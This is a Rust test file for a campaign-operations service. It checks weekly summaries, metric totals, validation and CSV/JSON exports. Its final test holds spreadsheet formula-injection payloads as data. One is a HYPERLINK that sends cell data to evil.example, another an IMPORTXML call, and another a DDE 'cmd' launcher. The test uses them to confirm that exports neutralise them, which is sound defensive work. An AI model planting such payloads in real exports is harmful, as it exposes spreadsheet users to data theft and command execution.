//! Reports through the service: weekly summary on hand-computed data, campaign metrics,
//! completion rate, and CSV / JSON exports parsed back.

use campaign_ops::report::{ReportWeek, WeeklySummary};
use campaign_ops::service::{Completion, ExportFormat, NewMetric, NewTask};
use campaign_ops::{CampaignId, Error, MetricKind, OperatorTask, Platform, TaskId, TaskType};
use chrono::{DateTime, Duration, TimeZone, Utc};

use crate::support::*;

fn berlin(d: u32, h: u32) -> DateTime<Utc> {
    chrono_tz::Europe::Berlin
        .with_ymd_and_hms(2026, 11, d, h, 0, 0)
        .single()
        .unwrap()
        .with_timezone(&Utc)
}

fn manual(ops: &Ops, c: CampaignId, title: &str, due: DateTime<Utc>) -> TaskId {
    let mut new = NewTask::new(c, TaskType::Manual, title, due);
    new.platform = Some(Platform::LinkedIn);
    new.assignee = Some("bob".into());
    ops.create_task(&alice(), new).unwrap().id
}

/// Week 2026-W48 (Mon 23 – Sun 29 November, Berlin), with this hand-computed content:
/// tasks due in the week: 6 — 3 completed, 1 failed, 1 skipped, 1 pending (overdue at the
/// report time); one more task due Monday 30 November 00:00 belongs to W49.
/// metrics recorded in the week (LinkedIn): impressions 1000 + 500, likes 20, comments 5,
/// clicks 15; X: impressions 200, engagements 10.
fn week_48(ops: &Ops) -> CampaignId {
    let mut n = new_campaign("Week 48");
    n.start_date = chrono::NaiveDate::from_ymd_opt(2026, 11, 1).unwrap();
    n.activate = true;
    let c = ops.create_campaign(&alice(), n).unwrap().id;
    let a = alice();
    ops.clock().set(berlin(23, 8));
    let done: Vec<TaskId> = (0..3)
        .map(|i| manual(ops, c, &format!("done {i}"), berlin(24 + i, 10)))
        .collect();
    let failed = manual(ops, c, "failed", berlin(27, 10));
    let skipped = manual(ops, c, "skipped", berlin(28, 10));
    manual(ops, c, "open", berlin(29, 23));
    manual(ops, c, "next week", berlin(30, 0));
    for (i, t) in done.iter().enumerate() {
        ops.start_task(&a, *t).unwrap();
        let metrics = if i == 0 {
            vec![
                (MetricKind::Impressions, 1000.0),
                (MetricKind::Likes, 20.0),
                (MetricKind::Comments, 5.0),
            ]
        } else if i == 1 {
            vec![(MetricKind::Impressions, 500.0), (MetricKind::Clicks, 15.0)]
        } else {
            vec![]
        };
        ops.mark_task_complete(&a, *t, with(Completion::default(), |c| c.metrics = metrics))
            .unwrap();
    }
    ops.start_task(&a, failed).unwrap();
    ops.fail_task(&a, failed, "account suspended").unwrap();
    ops.skip_task(&a, skipped, Some("holiday")).unwrap();
    ops.record_metrics(
        &a,
        c,
        &[
            with(NewMetric::new(MetricKind::Impressions, 200.0), |m| {
                m.platform = Some(Platform::X);
                m.notes = Some("X analytics".into());
            }),
            with(NewMetric::new(MetricKind::Engagements, 10.0), |m| {
                m.platform = Some(Platform::X)
            }),
        ],
    )
    .unwrap();
    // A metric recorded the week before does not count.
    ops.record_metrics(
        &a,
        c,
        &[with(NewMetric::new(MetricKind::Impressions, 9999.0), |m| {
            m.platform = Some(Platform::X);
            m.recorded_at = Some(berlin(22, 23));
        })],
    )
    .unwrap();
    // Report time: Monday 30 November 09:00 Berlin.
    ops.clock().set(berlin(30, 9));
    c
}

#[test]
fn weekly_summary_matches_hand_computed_numbers() {
    let ops = ops();
    let c = week_48(&ops);
    let week: ReportWeek = "2026-W48".parse().unwrap();
    let s = ops.generate_weekly_summary(c, Some(week)).unwrap();
    assert_eq!(s.week, week);
    assert_eq!(s.starts_at, berlin(23, 0));
    assert_eq!(s.ends_at, berlin(30, 0));
    assert_eq!(s.tasks.planned, 6);
    assert_eq!(s.tasks.completed, 3);
    assert_eq!(s.tasks.failed, 1);
    assert_eq!(s.tasks.skipped, 1);
    assert_eq!(s.tasks.overdue, 1);
    // completed / (total − skipped) = 3 / 5.
    assert_eq!(s.completion_rate, Some(0.6));
    assert_eq!(
        s.metrics.by_kind.impressions, 1700.0,
        "1000 + 500 + 200, summed"
    );
    // LinkedIn engagements from parts: 20 + 5 + 15 = 40; X reported 10. 50 / 1700.
    assert_eq!(s.metrics.total_engagements, 50.0);
    assert_eq!(s.metrics.engagement_rate, Some(50.0 / 1700.0));
    let li = &s.platforms[&Platform::LinkedIn];
    assert_eq!(li.by_kind.impressions, 1500.0);
    assert_eq!(li.engagement_rate, Some(40.0 / 1500.0));
    assert_eq!(
        s.platforms[&Platform::X].engagement_rate,
        Some(10.0 / 200.0)
    );
    assert_eq!(s.top_platform, Some(Platform::LinkedIn));
    assert!(s.text.contains("3 of 5 tasks done (60 %)"), "{}", s.text);

    // The current week by default; an empty week has no rate rather than NaN.
    let now_week = ops.generate_weekly_summary(c, None).unwrap();
    assert_eq!(now_week.week, "2026-W49".parse().unwrap());
    assert_eq!(now_week.tasks.planned, 1);
    assert_eq!(now_week.metrics.engagement_rate, None);
}

#[test]
fn campaign_metrics_and_completion_rate() {
    let ops = ops();
    let c = week_48(&ops);
    let m = ops.get_campaign_metrics(c).unwrap();
    assert_eq!(m.totals.by_kind.impressions, 1700.0 + 9999.0);
    let weeks: Vec<String> = m.weeks.iter().map(|w| w.week.to_string()).collect();
    assert_eq!(weeks, ["2026-W47", "2026-W48"]);
    assert_eq!(m.weeks[0].totals.by_kind.impressions, 9999.0);
    let rate = ops.get_task_completion_rate(c).unwrap();
    // 7 tasks, 1 skipped, 3 completed.
    assert_eq!((rate.completed, rate.total, rate.skipped), (3, 7, 1));
    assert_eq!(rate.rate, Some(0.5));
}

#[test]
fn bad_metric_input_changes_nothing() {
    let ops = ops();
    let c = week_48(&ops);
    let before = snapshot(&ops);
    let future = with(NewMetric::new(MetricKind::Reach, 1.0), |m| {
        m.recorded_at = Some(ops_now(&ops) + Duration::hours(1))
    });
    let negative = NewMetric::new(MetricKind::Reach, -1.0);
    let unused = with(NewMetric::new(MetricKind::Reach, 1.0), |m| {
        m.platform = Some(Platform::Instagram)
    });
    for (field, m) in [
        ("recorded_at", future),
        ("metrics.reach", negative),
        ("platform", unused),
    ] {
        match ops.record_metrics(&alice(), c, &[m]) {
            Err(Error::Validation { field: f, .. }) => assert_eq!(f, field),
            other => panic!("{field}: {other:?}"),
        }
    }
    assert_eq!(snapshot(&ops), before);
    assert_eq!(ops.campaign_metric_entries(c, None, 1000).unwrap().len(), 8);
}

fn ops_now(ops: &Ops) -> DateTime<Utc> {
    use campaign_ops::Clock;
    ops.clock().now()
}

#[test]
fn exports_parse_back() {
    let ops = ops();
    let c = week_48(&ops);
    // Text that CSV must quote.
    manual(
        &ops,
        c,
        "Say \"hi\", then, well\u{2026} wave",
        berlin(30, 12),
    );

    let tasks = ops.campaign_tasks(c).unwrap();
    let json: Vec<OperatorTask> =
        serde_json::from_str(&ops.export_tasks(c, ExportFormat::Json).unwrap()).unwrap();
    assert_eq!(json, tasks);
    let csv_text = ops.export_tasks(c, ExportFormat::Csv).unwrap();
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let title_col = headers.iter().position(|h| h == "title").unwrap();
    let id_col = headers.iter().position(|h| h == "id").unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), tasks.len());
    for (row, task) in rows.iter().zip(&tasks) {
        assert_eq!(row[id_col].parse::<u64>().unwrap(), task.id.0);
        assert_eq!(&row[title_col], task.title);
    }

    let metrics = ops.campaign_metric_entries(c, None, 1000).unwrap();
    let back: Vec<campaign_ops::MetricEntry> =
        serde_json::from_str(&ops.export_metrics(c, ExportFormat::Json).unwrap()).unwrap();
    assert_eq!(back, metrics);
    let csv_text = ops.export_metrics(c, ExportFormat::Csv).unwrap();
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let value_col = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "value")
        .unwrap();
    let sum: f64 = reader
        .records()
        .map(|r| r.unwrap()[value_col].parse::<f64>().unwrap())
        .sum();
    assert_eq!(sum, metrics.iter().map(|m| m.value).sum::<f64>());

    let (w47, w49): (ReportWeek, ReportWeek) =
        ("2026-W47".parse().unwrap(), "2026-W49".parse().unwrap());
    let summaries: Vec<WeeklySummary> = serde_json::from_str(
        &ops.export_weekly_summaries(c, w47, w49, ExportFormat::Json)
            .unwrap(),
    )
    .unwrap();
    assert_eq!(summaries.len(), 3);
    assert_eq!(
        summaries[1],
        ops.generate_weekly_summary(c, Some("2026-W48".parse().unwrap()))
            .unwrap()
    );
    let csv_text = ops
        .export_weekly_summaries(c, w47, w49, ExportFormat::Csv)
        .unwrap();
    assert_eq!(
        csv::Reader::from_reader(csv_text.as_bytes())
            .records()
            .count(),
        3
    );
    assert!(matches!(
        ops.export_weekly_summaries(c, w49, w47, ExportFormat::Csv),
        Err(Error::Validation { .. })
    ));
    assert!(
        matches!("xml".parse::<ExportFormat>(), Err(Error::Validation { field, .. }) if field == "format")
    );
}

#[test]
fn huge_or_ancient_metric_values_are_refused_so_sums_stay_finite() {
    let ops = ops();
    let c = week_48(&ops);
    let before = snapshot(&ops);
    let metric = |value: f64, recorded_at: Option<DateTime<Utc>>| {
        with(NewMetric::new(MetricKind::Impressions, value), |m| {
            m.recorded_at = recorded_at
        })
    };
    let ancient = DateTime::<Utc>::MIN_UTC;
    for (field, m) in [
        ("metrics.impressions", metric(f64::MAX, None)),
        ("metrics.impressions", metric(f64::NAN, None)),
        ("metrics.impressions", metric(f64::INFINITY, None)),
        ("recorded_at", metric(1.0, Some(ancient))),
    ] {
        match ops.record_metrics(&alice(), c, &[m.clone(), m]) {
            Err(Error::Validation { field: f, .. }) => assert_eq!(f, field),
            other => panic!("{field}: {other:?}"),
        }
    }
    assert_eq!(snapshot(&ops), before);
    // The largest accepted value, twice, still sums to a finite total that JSON carries.
    let max = campaign_ops::service::MAX_METRIC_VALUE;
    ops.record_metrics(&alice(), c, &[metric(max, None), metric(max, None)])
        .unwrap();
    let metrics = ops.get_campaign_metrics(c).unwrap();
    assert!(metrics.totals.by_kind.impressions.is_finite());
    let json = ops.export_metrics(c, ExportFormat::Json).unwrap();
    let back: Vec<serde_json::Value> = serde_json::from_str(&json).unwrap();
    assert!(back.iter().all(|m| m["value"].is_number()));
}

#[test]
fn report_weeks_outside_four_digit_years_are_refused_and_the_text_form_round_trips() {
    for year in [-5, 10_000, 262_143] {
        assert!(
            matches!(ReportWeek::new(year, 1), Err(Error::Validation { field, .. }) if field == "week"),
            "{year}"
        );
    }
    for (year, week) in [(0, 1), (9999, 52), (2026, 53)] {
        let w = ReportWeek::new(year, week).unwrap();
        let json = serde_json::to_string(&w).unwrap();
        assert_eq!(serde_json::from_str::<ReportWeek>(&json).unwrap(), w);
        // The last supported week's bounds do not overflow.
        let (start, end) = w.bounds(chrono_tz::Pacific::Kiritimati);
        assert!(start < end);
    }
    let ops = ops();
    let c = week_48(&ops);
    let last = ReportWeek::new(9999, 52).unwrap();
    assert!(ops.generate_weekly_summary(c, Some(last)).is_ok());
}

#[test]
fn a_task_due_outside_the_supported_years_is_refused() {
    let ops = ops();
    let c = week_48(&ops);
    let before = snapshot(&ops);
    for due in [DateTime::<Utc>::MAX_UTC, DateTime::<Utc>::MIN_UTC] {
        let new = NewTask::new(c, TaskType::Manual, "far", due);
        assert!(matches!(
            ops.create_task(&alice(), new),
            Err(Error::Validation { field, .. }) if field == "due_at"
        ));
    }
    assert_eq!(snapshot(&ops), before);
}

/// Text a user typed that a spreadsheet would run as a formula: every CSV export writes it
/// with a `'` in front (OWASP's CSV injection advice), and numbers stay numbers.
#[test]
fn csv_exports_run_no_formula_in_a_spreadsheet() {
    let ops = ops();
    let c = week_48(&ops);
    let formulas = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
    ];
    for (i, title) in formulas.iter().enumerate() {
        manual(&ops, c, title, berlin(30, 12 + i as u32));
    }
    ops.record_metrics(
        &alice(),
        c,
        &[with(NewMetric::new(MetricKind::Clicks, 3.0), |m| {
            m.notes = Some("=IMPORTXML(\"https://evil.example\",\"//a\")".into())
        })],
    )
    .unwrap();

    let tasks = ops.export_tasks(c, ExportFormat::Csv).unwrap();
    let titles: Vec<String> = column(&tasks, "title");
    for title in formulas {
        assert!(
            titles.contains(&format!("'{title}")),
            "{title} in {titles:?}"
        );
    }
    let notes = column(&ops.export_metrics(c, ExportFormat::Csv).unwrap(), "notes");
    assert!(notes.contains(&"'=IMPORTXML(\"https://evil.example\",\"//a\")".to_owned()));
    let (w47, w49): (ReportWeek, ReportWeek) =
        ("2026-W47".parse().unwrap(), "2026-W49".parse().unwrap());
    for csv_text in [
        tasks,
        ops.export_metrics(c, ExportFormat::Csv).unwrap(),
        ops.export_weekly_summaries(c, w47, w49, ExportFormat::Csv)
            .unwrap(),
    ] {
        for record in csv::Reader::from_reader(csv_text.as_bytes()).records() {
            for cell in record.unwrap().iter() {
                let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                assert!(
                    !runs || cell.parse::<f64>().is_ok(),
                    "a spreadsheet would run {cell:?}"
                );
            }
        }
    }
    // The JSON export is the lossless form: the titles as typed.
    let json = ops.export_tasks(c, ExportFormat::Json).unwrap();
    let back: Vec<OperatorTask> = serde_json::from_str(&json).unwrap();
    assert!(back.iter().any(|t| t.title == formulas[0]));
}

/// The cells of column `name` of a CSV text.
fn column(csv_text: &str, name: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let col = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == name)
        .unwrap();
    reader
        .records()
        .map(|r| r.unwrap()[col].to_owned())
        .collect()
}
